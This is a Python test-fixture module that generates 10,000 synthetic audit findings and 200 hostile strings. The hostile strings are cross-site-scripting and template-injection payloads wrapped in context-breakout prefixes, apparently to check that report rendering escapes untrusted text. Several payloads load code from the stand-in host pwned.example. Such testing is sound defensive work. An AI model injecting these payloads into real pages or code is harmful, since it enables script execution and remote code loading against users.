"""Results of 10,000 findings with numbers of full length, and 200 strings that want to run."""

from __future__ import annotations

import random

from kinds import make_finding

from rlhf_fair.records import Results, Verdict

LABEL = "group {:05d}"


def many_results(number: int, *, seed: int = 1) -> Results:
    """``number`` findings; each group has a name of its own, and one in a hundred is a claim."""
    rng = random.Random(seed)
    findings = []
    for at in range(number):
        estimate, half, p = rng.gauss(0, 0.1), 0.05 + 0.02 * rng.random(), rng.random()
        over, inside = abs(estimate) - half > 0.1, abs(estimate) + half < 0.1
        findings.append(
            make_finding(
                id=f"ppo/names/{at}",
                group=LABEL.format(at),
                attribute=f"axis {at % 13}",
                variant=f"template {at % 7}",
                role="claim" if at % 100 == 0 else "exploratory",
                estimate=estimate,
                ci_low=estimate - half,
                ci_high=estimate + half,
                p_value=p,
                p_adjusted=min(1.0, 3 * p),
                mde=half * (1.4 + rng.random() / 10),
                n=rng.randint(80, 3000),
                n_clusters=rng.randint(20, 79),
                verdict=Verdict.EXCEEDS if over else Verdict.WITHIN if inside else Verdict.INCONCLUSIVE,
            )
        )
    return Results(
        audit={"title": "Ten thousand comparisons", "question": "Which of many groups differ?"},
        findings=tuple(findings),
    )


_RUNS = (
    "<script>pwned({0})</script>",
    "</script><script>pwned({0})</script>",
    "</style><script>pwned({0})</script>",
    "</textarea></title><script>pwned({0})</script>",
    "--><script>pwned({0})</script><!--",
    "<!--<script>pwned({0})//--></script>",
    "<ScRiPt\n>pwned({0})</sCrIpT >",
    "<script src=https://pwned.example/{0}.js></script>",
    "<script src='data:text/javascript,pwned({0})'></script>",
    "<script type=module>import 'https://pwned.example/{0}.js'</script>",
    "<img src=x onerror=pwned({0})>",
    "<img src=https://pwned.example/{0}.png>",
    "<image href=x onerror=pwned({0})>",
    "<svg onload=pwned({0})>",
    "<svg><script>pwned({0})</script></svg>",
    "<svg><animate onbegin=pwned({0}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned({0})><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=pwned({0})>",
    "<iframe srcdoc='<script>parent.pwned({0})</script>'></iframe>",
    "<iframe src=javascript:parent.pwned({0})></iframe>",
    "<object data=javascript:pwned({0})></object>",
    "<embed src=https://pwned.example/{0}>",
    "<link rel=stylesheet href=https://pwned.example/{0}.css>",
    "<style>@import 'https://pwned.example/{0}.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://pwned.example/{0}'>",
    "<base href=https://pwned.example/{0}/>",
    "<form action=javascript:pwned({0})><button autofocus onfocus=pwned({0})>x</button></form>",
    "<details open ontoggle=pwned({0})>x</details>",
    "<video><source onerror=pwned({0})></video>",
    "<body onload=pwned({0})>",
    "<a href=javascript:pwned({0})>x</a>",
    "<a href='https://pwned.example/{0}' ping=https://pwned.example/{0}>x</a>",
    "javascript:pwned({0})",
    "{{{{ pwned({0}) }}}}{{% for x in ().__class__ %}}{{% endfor %}}",
    "${{pwned({0})}}`+pwned({0})+`",
    "\\u003cscript\\u003epwned({0})\\u003c/script\\u003e",
    "&lt;script&gt;pwned({0})&lt;/script&gt;",
    "\u2028pwned({0})//\u2029",
    "x\x00<script>pwned({0})</script>",
    "%{{pwned({0})}}<b onmouseover=pwned({0})>$\\pwned$</b>",
)
_BREAKS = ("{}", '">{}', "'>{}", "]]>{}", "`>{} \"x='")


def hostile_strings() -> list[str]:
    """200 strings: 40 ways to run or to load something, each behind 5 ways out of where it may stand."""
    number = 0
    found = []
    for way_out in _BREAKS:
        for run in _RUNS:
            number += 1
            found.append(way_out.format(run.format(number)))
    return found
